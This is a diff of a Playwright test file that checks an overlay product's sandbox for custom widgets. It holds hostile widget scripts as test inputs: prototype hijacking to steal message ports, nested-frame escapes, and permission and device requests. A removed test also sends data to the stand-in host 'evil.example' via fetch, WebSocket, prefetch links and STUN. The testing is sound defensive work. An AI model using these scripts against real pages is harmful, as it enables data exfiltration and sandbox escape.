@@ -1,9 +1,6 @@
 // This file has over 300 lines, because it has the list of attacks that one widget tries against one server.
-import { readFile } from 'node:fs/promises';
-import { chromium } from '@playwright/test';
+import type { Page } from '@playwright/test';
 import { donate } from './support/api.ts';
-import { notInObs, obsChromium, obsFlags } from './support/chromium.ts';
-import { openContext } from './support/context.ts';
 import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
 import { type EvilServer, openEvilServer } from './support/evilServer.ts';
 import { expect, test } from './support/fixtures.ts';
@@ -96,12 +93,6 @@ const reads: Readonly<Record<string, string>> = {
   'the source of OBS': 'window.obsstudio',
 };
 
-let evil: EvilServer;
-test.beforeEach(async () => {
-  evil = await openEvilServer();
-});
-test.afterEach(() => evil.close());
-
 const prelude = (server: EvilServer) => `
   const EVIL = 'http://127.0.0.1:${server.tcpPort}/';
   const UDP = ${server.udpPort};
@@ -129,6 +120,7 @@ const leaving = [
 ];
 
 test('[CUS-43] no data of a widget reaches a socket, whatever the widget tries', async ({ product, openOverlay }) => {
+  const evil = await openEvilServer();
   const html = '<p id="tried"></p>';
   /** Code with which the widget reports that it is ready. A widget receives events only after `onWidgetLoad`. */
   const onLoad = "window.addEventListener('onWidgetLoad', () => (document.querySelector('#tried').textContent = '0'));";
@@ -170,212 +162,172 @@ test('[CUS-43] no data of a widget reaches a socket, whatever the widget tries',
   expect(evil.received).toEqual([]);
   expect(overlay.url()).toBe(address);
   expect(overlay.context().pages()).toHaveLength(1);
+  evil.close();
 });
 
-test('[CUS-43] a widget reads nothing of the overlay, of other widgets or of OBS, opens no dialog and gets no screen, pointer or device', async ({
+/** Tries all `reads`, and shows those that returned something. */
+const reading = `
+  window.addEventListener('onWidgetLoad', () => {
+    const got = [];
+    ${Object.entries(reads)
+      .map(([name, code]) => `try { const value = ${code}; if (value) got.push(${JSON.stringify(name)} + ': ' + value); } catch {}`)
+      .join('\n')}
+    document.querySelector('#got').textContent = JSON.stringify(got);
+  });
+`;
+
+/** Requests dialogs, windows and devices, and shows what it got. */
+const requesting = `
+  window.addEventListener('onWidgetLoad', async () => {
+    const got = [];
+    const tries = {
+      alert: () => alert('a'),
+      confirm: () => confirm('b'),
+      prompt: () => prompt('c'),
+      print: () => print(),
+      window: () => window.open('about:blank'),
+      fullscreen: () => document.documentElement.requestFullscreen().then(() => 'full'),
+      pointer: () => document.body.requestPointerLock()?.then(() => 'locked'),
+      notifications: () => Notification.requestPermission().then((answer) => answer === 'granted' && answer),
+      notification: () => Notification.permission === 'granted' && 'granted',
+      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
+      screen: () => navigator.mediaDevices.getDisplayMedia(),
+      place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
+      clipboard: () => navigator.clipboard.readText(),
+      'wake lock': () => navigator.wakeLock.request('screen'),
+      key: () => navigator.keyboard?.lock(),
+      usb: () => navigator.usb?.requestDevice({ filters: [] }),
+    };
+    for (const [name, run] of Object.entries(tries)) try { if (await run()) got.push(name); } catch {}
+    document.querySelector('#got').textContent = JSON.stringify(got);
+  });
+`;
+
+/** Replaces functions of its window. After 5 s, shows how many messages it could read. Two pings arrive by then. */
+const stealing = `
+  const listen = EventTarget.prototype.addEventListener;
+  let stolen = 0;
+  const replace = (object, name) => Object.defineProperty(object, name, { get() { stolen += 1; }, set() { stolen += 1; } });
+  for (const name of ['postMessage', 'start', 'onmessage', 'close']) replace(MessagePort.prototype, name);
+  for (const name of ['data', 'ports', 'source']) replace(MessageEvent.prototype, name);
+  EventTarget.prototype.addEventListener = function (...all) {
+    if (this !== window) stolen += 1;
+    return listen.apply(this, all);
+  };
+  Event.prototype.stopImmediatePropagation = () => {};
+  const iterate = Array.prototype[Symbol.iterator];
+  Array.prototype[Symbol.iterator] = function () {
+    if (this[0] instanceof MessagePort) stolen += 1;
+    return iterate.call(this);
+  };
+  listen.call(window, 'message', () => (stolen += 1));
+  listen.call(window, 'onWidgetLoad', () => setTimeout(() => (document.querySelector('#stolen').textContent = stolen), 5000));
+`;
+
+/** Runs scripts in a nested frame, where nothing would be counted. */
+const nesting = `<p id="ran">no</p><script>
+  if (parent !== top) parent.postMessage('ran', '*');
+  else {
+    const own = document.currentScript.src;
+    addEventListener('message', ({ data }) => data === 'ran' && (document.querySelector('#ran').textContent = 'yes'));
+    addEventListener('onWidgetLoad', () => {
+      const child = document.body.appendChild(document.createElement('iframe'));
+      setTimeout(() => (document.querySelector('#ran').dataset.loaded = 'yes'), 1_500);
+      child.srcdoc = '<script src="' + own + '"></' + 'script><script src="' + new URL('lib/jquery/jquery.min.js', location.href) + '"></' + 'script>';
+    });
+  }
+</script>`;
+
+/** Posts to all frames of the common parent window. */
+const posting = `
+  let rounds = 0;
+  addEventListener('onWidgetLoad', () => setInterval(() => {
+    for (let index = 0; index < 20; index += 1) try { parent.frames[index].postMessage('neighbour', '*'); } catch {}
+    document.querySelector('#rounds').textContent = rounds += 1;
+  }, 100));
+`;
+
+/** Tries to get workers, worklets, WebGPU and many audio contexts. */
+const working = `
+  const code = URL.createObjectURL(new Blob(['postMessage(1); for (;;);'], { type: 'text/javascript' }));
+  const own = new URL('script-0.js', location.href).href;
+  const got = [];
+  const tries = {
+    worker: () => new Promise((done, fail) => Object.assign(new Worker(code), { onmessage: done, onerror: fail })),
+    'worker of a child': () => {
+      const child = document.body.appendChild(document.createElement('iframe'));
+      return new Promise((done, fail) => Object.assign(new child.contentWindow.Worker(code), { onmessage: done, onerror: fail }));
+    },
+    'shared worker': () => new SharedWorker(code),
+    'audio worklet': () => new AudioContext().audioWorklet.addModule(own),
+    'offline audio worklet': () => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(own),
+    'paint worklet': () => CSS.paintWorklet.addModule(own),
+  };
+  window.addEventListener('onWidgetLoad', async () => {
+    for (const [name, run] of Object.entries(tries)) try { await run(); got.push(name); } catch {}
+    if (navigator.gpu) got.push('gpu');
+    if (performance.mark('a', { detail: 'x' }).detail) got.push('detail of a mark');
+    const kept = [];
+    const { constructor } = Object.getPrototypeOf(new AudioContext());
+    try { for (;;) kept.push(kept.length % 2 ? new constructor() : new AudioContext()); } catch {}
+    document.querySelector('#got').textContent = JSON.stringify(got) + (kept.length < 16 ? ' few' : ' many');
+  });
+`;
+
+const got = '<p id="got"></p>';
+const heard = '<p id="heard">nothing</p>';
+const listening =
+  "addEventListener('message', ({ data }) => data === 'neighbour' && (document.querySelector('#heard').textContent = data));";
+/** One widget for each attack, by the id of its element. */
+const widgets: Readonly<Record<string, { readonly html: string; readonly js?: string }>> = {
+  reads: { html: got, js: reading },
+  requests: { html: got, js: requesting },
+  steals: { html: '<p id="stolen"></p>', js: stealing },
+  nests: { html: nesting },
+  hears: { html: heard, js: listening },
+  posts: { html: '<p id="rounds">0</p>', js: posting },
+  works: { html: got, js: working },
+};
+
+test('[CUS-5] [CUS-43] [CUS-47] a widget reads nothing of others, gets no dialog, screen, pointer, device, port, worker, nested script or WebGPU', async ({
   product,
   context,
   openOverlay,
 }) => {
-  const reading = `
-    window.addEventListener('onWidgetLoad', () => {
-      const got = [];
-      ${Object.entries(reads)
-        .map(([name, code]) => `try { const value = ${code}; if (value) got.push(${JSON.stringify(name)} + ': ' + value); } catch {}`)
-        .join('\n')}
-      document.querySelector('#got').textContent = JSON.stringify(got);
-    });
-  `;
-  const requesting = `
-    window.addEventListener('onWidgetLoad', async () => {
-      const got = [];
-      const tries = {
-        alert: () => alert('a'),
-        confirm: () => confirm('b'),
-        prompt: () => prompt('c'),
-        print: () => print(),
-        window: () => window.open('about:blank'),
-        fullscreen: () => document.documentElement.requestFullscreen().then(() => 'full'),
-        pointer: () => document.body.requestPointerLock()?.then(() => 'locked'),
-        notifications: () => Notification.requestPermission().then((answer) => answer === 'granted' && answer),
-        notification: () => Notification.permission === 'granted' && 'granted',
-        camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
-        screen: () => navigator.mediaDevices.getDisplayMedia(),
-        place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
-        clipboard: () => navigator.clipboard.readText(),
-        'wake lock': () => navigator.wakeLock.request('screen'),
-        key: () => navigator.keyboard?.lock(),
-        usb: () => navigator.usb?.requestDevice({ filters: [] }),
-      };
-      for (const [name, run] of Object.entries(tries)) try { if (await run()) got.push(name); } catch {}
-      document.querySelector('#got').textContent = JSON.stringify(got);
-    });
-  `;
-  await addCustomWidget(product, { html: '<p id="got"></p>', js: reading });
-  await addCustomWidget(
-    product,
-    { html: '<p id="got"></p>', js: requesting },
-    { element: 'other', rect: { x: 700, y: 40, width: 200, height: 100 } },
-  );
+  for (const [index, [element, code]] of Object.entries(widgets).entries())
+    await addCustomWidget(product, code, { element, rect: { x: 40 + 260 * index, y: 40, width: 240, height: 200 } });
   const dialogs: string[] = [];
   context.on('dialog', (dialog) => {
     dialogs.push(dialog.message());
     void dialog.dismiss();
   });
   const overlay = await openOverlay();
-  for (const element of ['mine', 'other']) await expect(widgetFrame(overlay, element).locator('#got')).toHaveText('[]');
-  expect(dialogs).toEqual([]);
-  expect(overlay.context().pages()).toHaveLength(1);
-  expect(await overlay.evaluate(() => document.fullscreenElement ?? document.pointerLockElement)).toBeNull();
-});
-
-test('[CUS-5] [CUS-43] a widget that replaces its window’s functions does not get its port', async ({ product, openOverlay }) => {
-  const js = `
-    const listen = EventTarget.prototype.addEventListener;
-    let stolen = 0;
-    const replace = (object, name) => Object.defineProperty(object, name, { get() { stolen += 1; }, set() { stolen += 1; } });
-    for (const name of ['postMessage', 'start', 'onmessage', 'close']) replace(MessagePort.prototype, name);
-    for (const name of ['data', 'ports', 'source']) replace(MessageEvent.prototype, name);
-    EventTarget.prototype.addEventListener = function (...all) {
-      if (this !== window) stolen += 1;
-      return listen.apply(this, all);
-    };
-    Event.prototype.stopImmediatePropagation = () => {};
-    const iterate = Array.prototype[Symbol.iterator];
-    Array.prototype[Symbol.iterator] = function () {
-      if (this[0] instanceof MessagePort) stolen += 1;
-      return iterate.call(this);
-    };
-    listen.call(window, 'message', () => (stolen += 1));
-    listen.call(window, 'onWidgetLoad', () => setTimeout(() => (document.querySelector('#stolen').textContent = stolen), 5000));
-  `;
-  await addCustomWidget(product, { html: '<p id="stolen"></p>', js });
-  const overlay = await openOverlay();
-  // After 5 s, the widget writes into `#stolen` how many pings it could read. Two pings arrive by then.
-  await expect(widgetFrame(overlay).locator('#stolen')).toHaveText('0');
-});
-
-test('[CUS-47] no script of a widget runs in a nested frame, where nothing is counted', async ({ product, openOverlay }) => {
-  const html = `<p id="ran">no</p><script>
-    if (parent !== top) parent.postMessage('ran', '*');
-    else {
-      const own = document.currentScript.src;
-      addEventListener('message', ({ data }) => data === 'ran' && (document.querySelector('#ran').textContent = 'yes'));
-      addEventListener('onWidgetLoad', () => {
-        const child = document.body.appendChild(document.createElement('iframe'));
-        setTimeout(() => (document.querySelector('#ran').dataset.loaded = 'yes'), 1_500);
-        child.srcdoc = '<script src="' + own + '"></' + 'script><script src="' + new URL('lib/jquery/jquery.min.js', location.href) + '"></' + 'script>';
-      });
-    }
-  </script>`;
-  await addCustomWidget(product, { html });
-  const overlay = await openOverlay();
-  await expect(widgetFrame(overlay).locator('#ran[data-loaded=yes]')).toHaveText('no');
-});
-
-test('[CUS-43] a widget reaches no other widget through their common parent window', async ({ product, openOverlay }) => {
-  await addCustomWidget(product, {
-    html: '<p id="heard">nothing</p>',
-    js: "addEventListener('message', ({ data }) => data === 'neighbour' && (document.querySelector('#heard').textContent = data));",
+  const frame = (element: string) => widgetFrame(overlay, element);
+  await test.step('reads and requests', async () => {
+    for (const element of ['reads', 'requests']) await expect(frame(element).locator('#got')).toHaveText('[]');
+    expect(dialogs).toEqual([]);
+    expect(overlay.context().pages()).toHaveLength(1);
+    expect(await overlay.evaluate(() => document.fullscreenElement ?? document.pointerLockElement)).toBeNull();
   });
-  const js = `
-    let rounds = 0;
-    addEventListener('onWidgetLoad', () => setInterval(() => {
-      for (let index = 0; index < 20; index += 1) try { parent.frames[index].postMessage('neighbour', '*'); } catch {}
-      document.querySelector('#rounds').textContent = rounds += 1;
-    }, 100));
-  `;
-  await addCustomWidget(
-    product,
-    { html: '<p id="rounds">0</p>', js },
-    { element: 'other', rect: { x: 700, y: 40, width: 200, height: 100 } },
-  );
-  const overlay = await openOverlay();
-  await expect(widgetFrame(overlay).locator('#heard')).toHaveText('nothing');
-  await expect(widgetFrame(overlay, 'other').locator('#rounds')).toHaveText(/^\d{2,}$/);
-  await expect(widgetFrame(overlay).locator('#heard')).toHaveText('nothing');
-});
-
-test('[CUS-43] a widget makes no resolver look up a host', async ({ product, obs }, testInfo) => {
-  const log = testInfo.outputPath('net-log.json');
-  const executablePath = await obsChromium(obs);
-  const browser = await chromium.launch({
-    ...(executablePath && { executablePath }),
-    args: [...obsFlags, `--log-net-log=${log}`],
-    ignoreDefaultArgs: notInObs,
+  await test.step('nested frame', () => expect(frame('nests').locator('#ran[data-loaded=yes]')).toHaveText('no'));
+  await test.step('other widgets', async () => {
+    await expect(frame('posts').locator('#rounds')).toHaveText(/^\d{2,}$/);
+    await expect(frame('hears').locator('#heard')).toHaveText('nothing');
   });
-  const js = `
-    const HOST = 'ada-secret.evil.example';
-    function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
-    window.addEventListener('onWidgetLoad', () => {
-      const runs = [
-        ...['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'stylesheet', 'icon'].map((rel) => () => add('link', { rel, href: 'http://' + HOST + '/' + rel })),
-        () => add('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }),
-        () => add('a', { href: 'https://' + HOST + '/', textContent: 'x' }).dispatchEvent(new MouseEvent('mouseover', { bubbles: true })),
-        () => fetch('https://' + HOST + '/'),
-        () => (new Image().src = 'http://' + HOST + '/'),
-        () => new WebSocket('ws://' + HOST + '/'),
-        () => add('iframe', { src: 'http://' + HOST + '/' }),
-        () => new (add('iframe', {}).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: 'stun:' + HOST }] }).createDataChannel('x'),
-        () => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + HOST + "/')"]))),
-        () => (top.location = 'http://' + HOST + '/'),
-      ];
-      for (const run of runs) try { run(); } catch {}
-      document.querySelector('#tried').textContent = 'all';
-    });
-    window.addEventListener('click', () => setTimeout(() => (location = 'http://' + HOST + '/'), 1_500));
-  `;
-  await addCustomWidget(product, { html: '<p id="tried"></p>', js });
-  const overlay = await (await openContext(browser)).newPage();
-  await overlay.goto(product.overlay);
-  const tried = widgetFrame(overlay).locator('#tried');
-  await expect(tried).toHaveText('all');
-  await tried.dispatchEvent('click');
-  await expect(overlay.locator('iframe.frame')).toHaveCount(0);
-  await overlay.goto('http://heard.example/').catch(() => {}); // this host does not exist, but its lookup proves that the log contains lookups
-  await browser.close();
-  const hosts = await readFile(log, 'utf8');
-  expect(hosts).toContain('heard.example');
-  expect(hosts).not.toContain('evil.example');
+  await test.step('port', () => expect(frame('steals').locator('#stolen')).toHaveText('0'));
+  await test.step('workers', async () => {
+    await expect(frame('works').locator('#got')).toHaveText('[] few');
+    await expectPolicyRefusesWorker(overlay);
+  });
 });
 
-test('[CUS-47] a widget gets no worker, no WebGPU and few audio contexts; the policy alone refuses workers too', async ({
-  product,
-  openOverlay,
-}) => {
-  const js = `
-    const code = URL.createObjectURL(new Blob(['postMessage(1); for (;;);'], { type: 'text/javascript' }));
-    const own = new URL('script-0.js', location.href).href;
-    const got = [];
-    const tries = {
-      worker: () => new Promise((done, fail) => Object.assign(new Worker(code), { onmessage: done, onerror: fail })),
-      'worker of a child': () => {
-        const child = document.body.appendChild(document.createElement('iframe'));
-        return new Promise((done, fail) => Object.assign(new child.contentWindow.Worker(code), { onmessage: done, onerror: fail }));
-      },
-      'shared worker': () => new SharedWorker(code),
-      'audio worklet': () => new AudioContext().audioWorklet.addModule(own),
-      'offline audio worklet': () => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(own),
-      'paint worklet': () => CSS.paintWorklet.addModule(own),
-    };
-    window.addEventListener('onWidgetLoad', async () => {
-      for (const [name, run] of Object.entries(tries)) try { await run(); got.push(name); } catch {}
-      if (navigator.gpu) got.push('gpu');
-      if (performance.mark('a', { detail: 'x' }).detail) got.push('detail of a mark');
-      const kept = [];
-      const { constructor } = Object.getPrototypeOf(new AudioContext());
-      try { for (;;) kept.push(kept.length % 2 ? new constructor() : new AudioContext()); } catch {}
-      document.querySelector('#got').textContent = JSON.stringify(got) + (kept.length < 16 ? ' few' : ' many');
-    });
-  `;
-  await addCustomWidget(product, { html: '<p id="got"></p>', js });
-  const overlay = await openOverlay();
-  await expect(widgetFrame(overlay).locator('#got')).toHaveText('[] few');
-
-  const frame = overlay.frames().find((one) => one.url().includes('/widget/'));
+/**
+ * Runs code in an isolated world, which still has the APIs that Ovation removes from widgets, such as `Worker`. So only the content
+ * security policy can refuse the code.
+ */
+async function expectPolicyRefusesWorker(overlay: Page): Promise<void> {
+  const frame = await (await overlay.locator('[data-box="works"] iframe.frame').elementHandle())?.contentFrame();
   if (!frame) throw new Error('the overlay has no widget frame');
-  // Runs code in an isolated world, which still has the APIs that Ovation removes from widgets, such as `Worker`. So only the content
-  // security policy can refuse the code.
   const devtools = await overlay.context().newCDPSession(frame);
   const { frameTree } = await devtools.send('Page.getFrameTree');
   const { executionContextId: contextId } = await devtools.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
@@ -390,4 +342,4 @@ test('[CUS-47] a widget gets no worker, no WebGPU and few audio contexts; the po
   })`;
   const { result } = await devtools.send('Runtime.evaluate', { expression, contextId, awaitPromise: true });
   expect(result.value).toBe('refused');
-});
+}
